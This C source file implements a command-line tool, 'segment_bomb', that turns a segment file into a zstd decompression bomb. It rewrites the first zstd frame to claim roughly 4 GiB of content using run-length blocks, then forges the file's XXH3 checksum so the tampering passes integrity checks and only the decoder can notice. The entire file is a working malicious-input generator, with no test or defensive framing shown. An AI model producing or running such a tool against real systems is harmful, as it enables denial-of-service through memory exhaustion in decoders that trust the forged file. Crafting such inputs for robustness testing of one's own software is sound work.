// SPDX-License-Identifier: Apache-2.0
/*
 * segment_bomb SEGMENT OUT: a copy whose first zstd frame says that it holds 4 GiB and has
 * run-length blocks of 128 KiB to back it; the checksum is made to fit, so that only the decoder
 * can tell.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <xxhash.h>

#define CHECKSUM_AT 16
#define SUMMED_FROM 24
#define NR_BLOCKS   16

static const uint8_t magic[] = { 0x28, 0xb5, 0x2f, 0xfd };

static size_t find_frame(const uint8_t *data, size_t len)
{
	for (size_t i = 28; i + 9 + 4 * NR_BLOCKS < len; i++)
		if (memcmp(data + i, magic, sizeof(magic)) == 0)
			return i;
	return 0;
}

static void arm(uint8_t *frame)
{
	/* descriptor: content size of 4 bytes, one segment */
	static const uint8_t head[] = { 0x28, 0xb5, 0x2f, 0xfd, 0xa0, 0xf0, 0xff, 0xff, 0xff };

	memcpy(frame, head, sizeof(head));
	for (int i = 0; i < NR_BLOCKS; i++) {
		uint32_t block = (128u << 10) << 3 | 1u << 1 | (i == NR_BLOCKS - 1);
		uint8_t *at = frame + sizeof(head) + 4 * i;

		at[0] = (uint8_t)block;
		at[1] = (uint8_t)(block >> 8);
		at[2] = (uint8_t)(block >> 16);
		at[3] = 0;
	}
}

int main(int argc, char **argv)
{
	static uint8_t data[1 << 20];
	FILE *in = argc == 3 ? fopen(argv[1], "r") : NULL;
	FILE *out = in ? fopen(argv[2], "w") : NULL;
	size_t len = in ? fread(data, 1, sizeof(data), in) : 0;
	size_t at = find_frame(data, len);
	uint64_t sum;

	if (!out || at == 0) {
		fprintf(stderr, "usage: segment_bomb SEGMENT OUT; it must hold a zstd frame\n");
		return 2;
	}
	arm(data + at);
	sum = XXH3_64bits(data + SUMMED_FROM, len - SUMMED_FROM);
	for (int i = 0; i < 8; i++)
		data[CHECKSUM_AT + i] = (uint8_t)(sum >> (8 * i));
	fclose(in);
	return fwrite(data, 1, len, out) == len && fclose(out) == 0 ? 0 : 1;
}
